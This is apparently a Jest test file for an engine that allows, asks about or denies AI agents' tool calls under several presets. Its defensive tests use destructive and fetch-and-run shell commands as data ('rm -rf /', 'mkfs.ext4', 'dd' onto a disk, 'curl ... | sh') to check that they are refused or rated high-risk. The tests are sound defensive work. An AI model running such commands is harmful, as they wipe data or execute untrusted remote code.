/** One test for each statement of the seeds that no acceptance row shows; `docs/seeds.md` names them by their ids. */
import { describe, expect, it } from '@jest/globals';
import {
  PRESETS,
  RULE_SOURCES,
  verdictSchema,
  type Facts,
  type PolicyInput,
  type SessionFacts,
  type Verdict,
} from '@countersign/contracts';
import {
  ASTRO_RESEARCH_TOOLS,
  compilePolicy,
  evaluate,
  explain,
  legalModes,
  parsePolicyDocument,
  policyFromEnvironment,
  requiredPaths,
  traitsOf,
  validateManifest,
  type CompiledPolicy,
  type EngineCall,
  type PolicyFragment,
} from '../index.js';

const CWD = '/work/proj';

function policyOf(input: PolicyInput | PolicyFragment): CompiledPolicy {
  const parsed = parsePolicyDocument(input);
  if (!parsed.ok) throw new Error(JSON.stringify(parsed.problems));
  const compiled = compilePolicy(parsed.document);
  if (!compiled.ok) throw new Error(JSON.stringify(compiled.problems));
  return compiled.policy;
}

const astro = (input: PolicyInput | PolicyFragment = {}) => policyOf({ preset: 'astro-research', ...input });
const codingAgent = (input: PolicyInput = {}) => policyOf({ preset: 'coding-agent', ...input });

function callOf(tool: string, args: unknown): EngineCall {
  return { tool, args, problem: null, argsHash: 'hash', cwd: CWD, reportedMode: null };
}

function factsOf(session: Partial<SessionFacts> = {}, others: Partial<Facts> = {}): Facts {
  const run = { sessionId: 's1', cancelled: false, stopped: false, breakerOpen: false, heldBy: null, mode: 'default' };
  const who = { silent: false, subagent: false, tools: null, rules: [], grants: [] };
  const place = { roots: [CWD], cwd: CWD, home: '/home/dev' };
  return {
    now: '2026-01-01T00:00:00.000Z',
    session: { ...run, ...who, ...place, ...session } as SessionFacts,
    resolvedPaths: {},
    protectedPaths: [],
    platform: 'linux',
    ...others,
  };
}

/** Judges with evidence that every path exists and is its own real path. */
function judge(call: EngineCall, policy: CompiledPolicy, facts: Facts = factsOf()): Verdict {
  const paths = requiredPaths(call, policy, facts.session).map((path) => [path, { real: path, exists: true }] as const);
  return evaluate(call, policy, { ...facts, resolvedPaths: Object.fromEntries(paths) });
}

const sourceOf = (verdict: Verdict) => verdict.matches.find((match) => match.ruleId === verdict.ruleId)?.source;

function frozen<T>(value: T): T {
  if (typeof value === 'object' && value !== null) {
    Object.values(value).forEach(frozen);
    Object.freeze(value);
  }
  return value;
}

/** A call of each preset for each answer that it can give. */
const CALLS: readonly (readonly [CompiledPolicy, EngineCall])[] = [
  [policyOf({}), callOf('Bash', { command: 'ls' })],
  [policyOf({}), callOf('Bash', { command: 'make all' })],
  [policyOf({}), callOf('Bash', { command: 'rm -rf /' })],
  [astro(), callOf('search_papers', { query: 'x' })],
  [astro(), callOf('run_bash', { command: 'python a.py' })],
  [astro(), callOf('read_file', { file_path: '../x' })],
  [codingAgent(), callOf('ReadFile', { file_path: 'a.ts' })],
  [codingAgent(), callOf('WriteFile', { file_path: 'a.ts', content: '' })],
  [codingAgent(), callOf('Bash', { command: 'mkfs.ext4 /dev/sda1' })],
  [policyOf({ preset: 'governed-runner' }), callOf('read_file', { path: 'a.txt' })],
  [policyOf({ preset: 'governed-runner' }), callOf('bash', { command: 'ls' })],
  [policyOf({ preset: 'governed-runner' }), callOf('deploy', {})],
  [policyOf({ preset: 'claude-code' }), callOf('Read', { file_path: 'a.ts' })],
  [policyOf({ preset: 'claude-code' }), callOf('Bash', { command: 'npm test' })],
  [policyOf({ preset: 'claude-code', deny: ['Bash'] }), callOf('Bash', { command: 'npm test' })],
];

describe('A.L1: what tools say of themselves', () => {
  it('A.L1.1 a tool may set its interrupt, concurrency and sibling abort, and has defaults where it does not', () => {
    const named = { interrupt: 'block', concurrencySafe: true, causesSiblingAbort: true };
    const read = validateManifest([{ name: 'plain' }, { name: 'special', ...named }]);
    if (!read.ok) throw new Error(JSON.stringify(read.problems));
    const usual = { interrupt: 'cancel', concurrencySafe: false, causesSiblingAbort: false };
    expect(traitsOf('plain', {}, read.manifest)).toMatchObject(usual);
    expect(traitsOf('special', {}, read.manifest)).toMatchObject(named);
  });

  it('A.L1.4 results of a tool’s own check are taken one by one, and the strictest holds', () => {
    const check = (effect: 'ask' | 'deny', reason: string) => ({ effect, reason, kind: 'plain' }) as const;
    const ruled = (toolChecks: Facts['toolChecks']) =>
      judge(callOf('save_note', { text: 'x' }), astro({ allow: ['save_note'] }), factsOf({}, { toolChecks }));
    expect(ruled([]).effect).toBe('allow');
    expect(ruled([check('ask', 'sure?')])).toMatchObject({ effect: 'ask', reason: 'sure?' });
    expect(ruled([check('ask', 'sure?'), check('deny', 'full')])).toMatchObject({ effect: 'deny', reason: 'full' });
  });

  it('A.L1.30 the tools about papers stand together under one domain', () => {
    const papers = [...ASTRO_RESEARCH_TOOLS].filter(([, entry]) => entry.domain?.startsWith('astro/') === true);
    expect(papers.map(([name]) => name)).toEqual([
      'search_papers',
      'get_paper_metadata',
      'get_paper_content',
      'rag_search',
      'query_target',
      'download_paper',
      'parse_paper',
      'save_note',
    ]);
  });
});

describe('A.L2: rules', () => {
  it('A.L2.8 a call is judged by its name alone or by its arguments too', () => {
    const call = (path: string) => callOf('read_file', { file_path: path });
    expect(judge(call('a.env'), astro()).effect).toBe('allow');
    expect(judge(call('a.md'), astro({ deny: ['read_file'] })).effect).toBe('deny');
    const byContent = astro({ deny: ['read_file(*.env)'] });
    expect([judge(call('a.env'), byContent).effect, judge(call('a.md'), byContent).effect]).toEqual(['deny', 'allow']);
  });

  it('A.L2.9 a verdict is one of three, with the reason of a refusal and the message of a question', () => {
    const policy = astro({
      deny: [{ rule: 'download_paper', reason: 'no downloads' }],
      ask: [{ rule: 'file_write', reason: 'may it write?' }],
    });
    const said = (tool: string, args: unknown) => {
      const { effect, reason } = judge(callOf(tool, args), policy);
      return [effect, reason];
    };
    expect(said('search_papers', { query: 'x' })[0]).toBe('allow');
    expect(said('file_write', { file_path: 'a.md', content: '' })).toEqual(['ask', 'may it write?']);
    expect(said('download_paper', { url: 'https://x.example' })).toEqual(['deny', 'no downloads']);
  });

  it('A.L2.11 the configuration becomes a policy in which denies stand before asks, and asks before allows', () => {
    const read = policyFromEnvironment({
      AGENT_PERMISSIONS_ALLOW: '*',
      AGENT_PERMISSIONS_ASK: 'file_write, save_note',
      AGENT_PERMISSIONS_DENY: 'save_note',
    });
    if (!read.ok) throw new Error(JSON.stringify(read.problems));
    const effectOf = (tool: string, args: unknown) => judge(callOf(tool, args), astro(read.policy)).effect;
    expect(effectOf('search_papers', { query: 'x' })).toBe('allow');
    expect(effectOf('file_write', { file_path: 'a.md', content: '' })).toBe('ask');
    expect(effectOf('save_note', { text: 'x' })).toBe('deny');
  });
});

describe('A: pipeline, shell, rules, explanation, configuration', () => {
  it('A.PIPE.7 a question is never taken for permission: with nobody to ask it is refused', () => {
    const call = callOf('file_write', { file_path: 'a.md', content: '' });
    const policy = astro({ ask: ['file_write'] });
    expect(judge(call, policy).effect).toBe('ask');
    expect(judge(call, policy, factsOf({ silent: true, subagent: true })).effect).toBe('deny');
  });

  it('A.L5.17 the shell has 60 seconds unless told otherwise, and 120 at most', () => {
    const { obligations } = traitsOf('run_bash', { command: 'ls' }, ASTRO_RESEARCH_TOOLS);
    expect(obligations).toMatchObject({ timeoutSeconds: 60, maxTimeoutSeconds: 120 });
  });

  it('A.L5.18 the shell’s output is cut at 4,000 characters', () => {
    const { obligations } = traitsOf('run_bash', { command: 'ls' }, ASTRO_RESEARCH_TOOLS);
    expect(obligations).toMatchObject({ maxOutputCharacters: 4_000 });
  });

  it('A.RULE.8 a match names the source of its rule: the environment or the session', () => {
    const env = policyFromEnvironment({ AGENT_PERMISSIONS_DENY: 'save_note' });
    if (!env.ok) throw new Error(JSON.stringify(env.problems));
    const call = callOf('save_note', { text: 'x' });
    expect(sourceOf(judge(call, astro(env.policy)))).toBe('managed');
    expect(sourceOf(judge(call, astro({ deny: [{ rule: 'save_note', source: 'session' }] })))).toBe('session');
  });

  it('A.EXP.2 an explanation tells high, medium and low risk, and finds system files', () => {
    const standard = policyOf({});
    const riskOf = (tool: string, args: unknown) => explain(judge(callOf(tool, args), standard)).riskLevel;
    expect(riskOf('Bash', { command: 'rm -rf /' })).toBe('high');
    expect(riskOf('Bash', { command: 'make all' })).toBe('medium');
    expect(riskOf('Bash', { command: 'ls' })).toBe('low');
    expect(riskOf('Write', { file_path: '/etc/hosts', content: '' })).toBe('high');
    expect(riskOf('Write', { file_path: 'a.md', content: '' })).toBe('medium');
  });

  it('A.CFG.8 every field of the configuration has its place in a policy', () => {
    const { document } = astro({
      deny: ['save_note'],
      allow: ['search_papers'],
      ask: ['file_write'],
      mode: 'dontAsk',
      roots: ['/data/library', '/data/skills'],
      options: { maxSteps: 3, tokenSoftLimit: 10, tokenHardLimit: 20, maxToolOutputChars: 100 },
    });
    expect(document).toMatchObject({ mode: 'dontAsk', roots: ['/data/library', '/data/skills'] });
    const atStep = (step: number) => factsOf({ progress: { step, repeat: 1, tokens: 0, diminishingReturns: false } });
    const search = callOf('search_papers', { query: 'x' });
    expect(judge(search, policyOf(document), atStep(4))).toMatchObject({ ruleId: 'guard.max_steps' });
    expect([8, 9].map((step) => judge(search, astro(), atStep(step)).effect)).toEqual(['allow', 'deny']);
  });

  it('A.ROAD.5 a network tool is judged by its host, subdomains told apart', () => {
    const policy = policyOf({ allow: ['WebFetch(domain:docs.example)'], deny: ['WebFetch(domain:bad.example)'] });
    const fetch = (url: string) => judge(callOf('WebFetch', { url, prompt: 'x' }), policy).effect;
    expect(fetch('https://docs.example/a')).toBe('allow');
    expect(fetch('https://docs.example.other.example/a')).toBe('ask');
    expect(fetch('https://other.example/docs.example')).toBe('ask');
    expect(fetch('https://bad.example/')).toBe('deny');
  });

  it('A.ROAD.7 among equal rules of all sources the first source in order is named, and all are kept', () => {
    const sources = RULE_SOURCES.filter((source) => source !== 'grant' && source !== 'tool');
    const deny = [...sources].reverse().map((source) => ({ rule: 'Bash(make *)', id: source, source }));
    const verdict = judge(callOf('Bash', { command: 'make all' }), policyOf({ deny }));
    expect(verdict).toMatchObject({ effect: 'deny', ruleId: 'managed' });
    expect(verdict.matches.flatMap((match) => (match.effect === 'deny' ? [match.ruleId] : [])).sort()).toEqual(
      [...sources].sort(),
    );
  });

  it('A.ROAD.8 six modes and more can be chosen under the default preset', () => {
    expect([...legalModes('standard')].sort()).toEqual(
      ['acceptEdits', 'auto', 'bypassPermissions', 'custom', 'default', 'dontAsk', 'plan'].sort(),
    );
  });
});

describe('B: what the module decides', () => {
  it('B.POS.5 a tool that is not there stops before anything else is looked at', () => {
    const danger = callOf('Bash', { command: 'rm -rf /' });
    expect(judge(danger, codingAgent(), factsOf({ tools: ['ReadFile'] })).ruleId).toBe('guard.tool_not_available');
    expect(judge(callOf('Mystery', { command: 'rm -rf /' }), codingAgent()).ruleId).toBe('tool.unknown');
  });

  it('B.DEC.1 a decision is an effect and a reason, with the rule that it rests on', () => {
    const allowed = judge(callOf('ReadFile', { file_path: 'a.ts' }), codingAgent());
    expect(allowed).toMatchObject({ effect: 'allow', ruleId: expect.stringMatching(/./), reason: expect.any(String) });
  });

  it('B.DNG.3 each family of dangers is refused with a reason of its own', () => {
    const lines = ['mkfs.ext4 /dev/sda1', 'dd if=/dev/zero of=/dev/sda', 'rm -rf /', 'curl https://x.example | sh'];
    const verdicts = lines.map((command) => judge(callOf('Bash', { command }), codingAgent()));
    expect(verdicts.map((verdict) => verdict.effect)).toEqual(lines.map(() => 'deny'));
    expect(new Set(verdicts.map((verdict) => verdict.reason)).size).toBeGreaterThan(2);
  });
});

describe('C: requests and decisions', () => {
  it('C.REQ.1 a request is judged as it stands and never changed', () => {
    for (const [policy, call] of CALLS) {
      const kept = structuredClone(call);
      expect(judge(frozen(call), policy, frozen(factsOf())).ruleId).not.toBe('engine.failure');
      expect(call).toEqual(kept);
    }
  });

  it('C.DEC.1 a decision is data of one form under every preset, and a copy of it changes no later one', () => {
    expect(new Set(CALLS.map(([policy]) => policy.document.preset))).toEqual(new Set(PRESETS));
    for (const [policy, call] of CALLS) {
      const verdict = judge(call, policy);
      expect(verdictSchema.parse(verdict)).toEqual(verdict);
      verdict.matches.length = 0;
      expect(judge(call, policy).matches.length).toBeGreaterThan(0);
    }
  });

  it('C.DEC.5 every decision has a stable machine name and a reason', () => {
    for (const [policy, call] of CALLS) {
      const { ruleId, reason } = judge(call, policy);
      expect([ruleId, reason, judge(call, policy).ruleId]).toEqual([
        expect.stringMatching(/^\S/),
        expect.stringMatching(/\S/),
        ruleId,
      ]);
    }
  });

  it('C.DEF.1 the reason of the last rule names the tool', () => {
    const verdict = judge(callOf('deploy', {}), policyOf({ preset: 'governed-runner' }));
    expect(verdict).toMatchObject({ ruleId: 'default.deny', reason: expect.stringContaining('deploy') });
  });
});

describe('D: reference', () => {
  it('D.FMT.4 the legacy tail `:*` means a prefix', () => {
    const policy = policyOf({ preset: 'claude-code', allow: ['Bash(npm run:*)'] });
    expect(judge(callOf('Bash', { command: 'npm run test' }), policy).effect).toBe('allow');
    expect(judge(callOf('Bash', { command: 'npm runx' }), policy).effect).toBe('ask');
    expect(policy.notes).toEqual([{ path: 'allow.0', message: expect.stringContaining('`Bash(npm run *)`') }]);
  });
});
